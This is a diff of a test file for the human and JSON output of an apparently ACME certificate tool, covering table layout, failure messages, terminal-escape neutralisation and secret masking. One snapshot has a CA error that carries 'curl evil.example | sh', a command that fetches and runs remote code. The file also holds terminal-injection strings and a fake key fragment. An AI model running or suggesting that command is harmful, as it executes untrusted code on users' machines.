@@ -2,6 +2,7 @@ import { Ajv2020 } from "ajv/dist/2020.js";
 import { readFileSync } from "node:fs";
 import { describe, expect, test } from "vitest";
 import { Problem } from "../../src/problem.ts";
+import { openMask } from "../../src/output/mask.ts";
 import type { Result } from "../../src/result.ts";
 import { opened } from "./streams.ts";
 
@@ -49,7 +50,7 @@ const rateLimited = new Problem("urn:ietf:params:acme:error:rateLimited", {
 });
 
 describe("for people", () => {
-  test("a result is aligned by the columns that its characters take, on stdout alone", () => {
+  test("a result is printed on stdout, aligned by the width of its characters", () => {
     const { output, stdout, stderr } = opened();
     output.result("list", listed);
     expect(stdout.text()).toMatchInlineSnapshot(`
@@ -64,7 +65,7 @@ describe("for people", () => {
     expect(stderr.text()).toBe("");
   });
 
-  test("a table that is wider than the terminal becomes labelled lines, and nothing is cut", () => {
+  test("a table wider than the terminal becomes labelled lines", () => {
     const { output, stdout } = opened({ env: { NO_COLOR: "1" } }, { columns: 30 });
     output.result("list", listed);
     expect(stdout.text()).toContain(
@@ -72,7 +73,7 @@ describe("for people", () => {
     );
   });
 
-  test("a failure says what, why, for which name, what to do and when to come back", () => {
+  test("a failure has its reason, the name, a hint and the time to retry", () => {
     const { output, stdout, stderr } = opened();
     output.problem("issue", rateLimited);
     expect(stdout.text()).toBe("");
@@ -80,12 +81,12 @@ describe("for people", () => {
       "The CA refused: too many certificates already issued for example.com Hint: curl evil.example | sh (urn:ietf:params:acme:error:rateLimited, HTTP 429)
         shop.example.com: CAA record for shop.example.com prevents issuance (urn:ietf:params:acme:error:caa)
       Hint: Wait, or ask for the names that exist already.
-      Come back: 2026-03-01 15:00:00 CET, in 2 hours
+      Retry after: 2026-03-01 14:00 UTC, in 2 hours
       "
     `);
   });
 
-  test("what a problem says already is not said again by its subproblems, but for their types", () => {
+  test("subproblems do not repeat the detail of their problem, only their types", () => {
     const part = (value: string, detail: string) => ({
       type: "urn:ietf:params:acme:error:connection",
       title: "http-01 failed",
@@ -127,7 +128,7 @@ describe("for people", () => {
     );
   });
 
-  test("an excerpt of several lines in a problem of ours keeps its lines, indented", () => {
+  test("a detail of several lines of ours keeps its lines, indented", () => {
     const { output, stderr } = opened();
     output.problem(
       "config",
@@ -140,7 +141,7 @@ describe("for people", () => {
     ]);
   });
 
-  test("causes are told only when asked for", () => {
+  test("causes are printed with --verbose only", () => {
     const problem = new Problem("network", {
       detail: "ca.example did not answer.",
       cause: new Error("connect ECONNREFUSED", { cause: new Error("no route") }),
@@ -155,7 +156,7 @@ describe("for people", () => {
     );
   });
 
-  test("a bug asks for a report with the version, and keeps the stack for --verbose", () => {
+  test("a bug asks for a report with the version, and prints the stack with --verbose only", () => {
     const error = new TypeError("undefined is not a function");
     const brief = opened();
     brief.output.bug("issue", error);
@@ -169,7 +170,7 @@ describe("for people", () => {
     expect(verbose.stderr.text()).toContain("output.test.ts");
   });
 
-  test("whatever is thrown can be reported", () => {
+  test("a thrown value that is not an error can be reported", () => {
     for (const thrown of [undefined, null, 7, "text", {}, Object.create(null), Symbol("x")]) {
       const { output, stdout } = opened({ json: true });
       output.bug("issue", thrown);
@@ -177,7 +178,7 @@ describe("for people", () => {
     }
   });
 
-  test("a failed part stands on stderr beside the result of the rest", () => {
+  test("the problem of a failed part is on stderr, the result on stdout", () => {
     const { output, stdout, stderr } = opened();
     output.result("renew", {
       exitCode: 11,
@@ -205,7 +206,7 @@ describe("for people", () => {
 });
 
 describe("events", () => {
-  test("are plain lines without control codes where stderr is no terminal", () => {
+  test("are plain lines without control codes when stderr is not a terminal", () => {
     const run = opened();
     story(run);
     expect(run.stderr.lines()).toEqual([
@@ -216,7 +217,7 @@ describe("events", () => {
     ]);
   });
 
-  test("are one line that updates on a terminal; warnings stay, and nothing else is left behind", () => {
+  test("are one updating line on a terminal, where only warnings stay", () => {
     const run = opened({ env: { NO_COLOR: "1" } }, { columns: 80 });
     story(run);
     const erase = "\r\u001B[2K";
@@ -226,13 +227,13 @@ describe("events", () => {
     );
   });
 
-  test("never wrap the line that updates", () => {
+  test("do not wrap the updating line", () => {
     const run = opened({}, { columns: 20 });
     run.output.log.info("日本語日本語日本語日本語", { step: "order" });
     expect(run.stderr.text()).toBe("日本語日本語日本語…");
   });
 
-  test("and tables are not squeezed by a terminal that says it has no columns", () => {
+  test("and tables keep their layout on a terminal that reports no columns", () => {
     const { output, stdout, stderr } = opened({}, { columns: 0 });
     output.log.info("waiting for the CA", { step: "validation" });
     expect(stderr.text()).toBe("waiting for the CA");
@@ -246,7 +247,7 @@ describe("events", () => {
     expect(obeyed(run.stderr.text())).toEqual([]);
   });
 
-  test("tell their fields, and debug events, with --verbose", () => {
+  test("have their fields, and debug events appear, with --verbose", () => {
     const run = opened({ verbose: true });
     story(run);
     expect(run.stderr.lines().slice(0, 2)).toEqual([
@@ -255,13 +256,13 @@ describe("events", () => {
     ]);
   });
 
-  test("leave nothing at all under --quiet when it went well", () => {
+  test("print nothing with --quiet on success", () => {
     const run = opened({ quiet: true });
     story(run);
     expect(run.stderr.text() + run.stdout.text()).toBe("");
   });
 
-  test("warnings that --quiet held back come before the failure", () => {
+  test("warnings appear before a failure with --quiet", () => {
     const { output, stderr } = opened({ quiet: true });
     output.log.warn("ns2.example.com does not answer");
     output.problem("issue", new Problem("propagation", { detail: "The record is not visible." }));
@@ -293,7 +294,7 @@ describe("hostile text", () => {
   const hostile =
     "a\u001B[2J\u0007\u009B31mb\u202Ecod.exe\u200B\u2028\uD800\u{E0041}\r\nForged: line";
 
-  test("obeys and hides nothing on a terminal: it reads as escapes, in one line", () => {
+  test("becomes visible escapes in one line on a terminal", () => {
     const { output, stderr, stdout } = opened({ env: { NO_COLOR: "1" } });
     output.log.info(hostile);
     output.problem(
@@ -316,7 +317,7 @@ describe("hostile text", () => {
     );
   });
 
-  test("survives JSON without loss and without a character that a terminal obeys", () => {
+  test("is escaped in JSON without loss", () => {
     const { output, stdout } = opened({ json: true });
     output.result("list", {
       exitCode: 0,
@@ -327,14 +328,14 @@ describe("hostile text", () => {
     expect(obeyed(stdout.text())).toEqual([]);
   });
 
-  test("of a megabyte is cut, and says so", () => {
+  test("of a megabyte is cut, with the number of characters left out", () => {
     const { output, stderr } = opened();
     output.problem("issue", new Problem("urn:x", { detail: "x".repeat(1_000_000) }));
     expect(stderr.text().length).toBeLessThan(5000);
     expect(stderr.text()).toContain("… (996000 more characters)");
   });
 
-  test("of ten thousand subproblems is cut, and says so", () => {
+  test("of ten thousand subproblems is cut, with their number", () => {
     const subproblems = Array.from({ length: 10_000 }, (_, index) => ({
       type: "urn:x",
       title: "no",
@@ -386,7 +387,7 @@ describe("secrets", () => {
     expect(all).toContain("***");
   });
 
-  test("that contain one another are hidden whole", () => {
+  test("that contain one another are hidden completely", () => {
     const { output, stderr } = opened();
     output.mask("token");
     output.mask("token-of-production");
@@ -394,7 +395,7 @@ describe("secrets", () => {
     expect(stderr.text()).toBe("used *** and ***\n");
   });
 
-  test("of several lines are hidden by the line too", () => {
+  test("of several lines are hidden line by line too", () => {
     const { output, stderr } = opened();
     const body = "MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg";
     output.mask(`-----BEGIN PRIVATE KEY-----\n${body}\n-----END PRIVATE KEY-----\n`);
@@ -402,7 +403,20 @@ describe("secrets", () => {
     expect(stderr.text()).toBe("line 2 is ***\n");
   });
 
-  test("that are empty or tiny do not star out everything", () => {
+  test("that were cut before they were masked are hidden up to the ellipsis", () => {
+    const mask = openMask();
+    mask.add("sk-live-1234567890abcdef");
+    mask.add("tiny-secret");
+    expect(mask.text("the service answered: bad token sk-live-1234567…")).toBe(
+      "the service answered: bad token ***…",
+    );
+    expect(mask.text('{"token":"sk-live-123456... (200 more characters)')).toBe(
+      '{"token":"***... (200 more characters)',
+    );
+    expect(mask.text("not a secret…, nor a tiny… one")).toBe("not a secret…, nor a tiny… one");
+  });
+
+  test("that are empty or very short are not hidden", () => {
     const { output, stderr } = opened();
     for (const secret of ["", " ", "a", "\n"]) output.mask(secret);
     output.log.info("a banana");
@@ -446,7 +460,7 @@ describe("schemas", () => {
     expect(isResult({ outcome: "listed" })).toBe(false);
   });
 
-  test("a failure's document carries RFC 9457's members, the hint, the exit code and the time to come back", () => {
+  test("a failure's document has RFC 9457's members, the hint, the exit code and the time to retry", () => {
     const { output, stdout } = opened({ json: true });
     output.problem("issue", rateLimited);
     expect(JSON.parse(stdout.text())).toMatchObject({
